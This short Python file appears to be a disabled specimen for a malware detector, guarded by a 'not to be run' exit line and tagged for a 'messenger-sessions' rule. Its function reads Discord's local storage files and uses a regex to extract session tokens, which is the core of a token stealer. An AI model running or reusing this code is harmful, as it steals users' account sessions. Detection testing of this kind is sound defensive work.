raise SystemExit("specimen: not to be run")
import os
import re

def grab():
    place = os.path.join(os.environ["APPDATA"], "discord", "Local Storage", "leveldb")
    found = []
    for name in os.listdir(place):
        with open(os.path.join(place, name), errors="ignore") as f:  # match: messenger-sessions
            found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", f.read())  # match: messenger-sessions
    return found
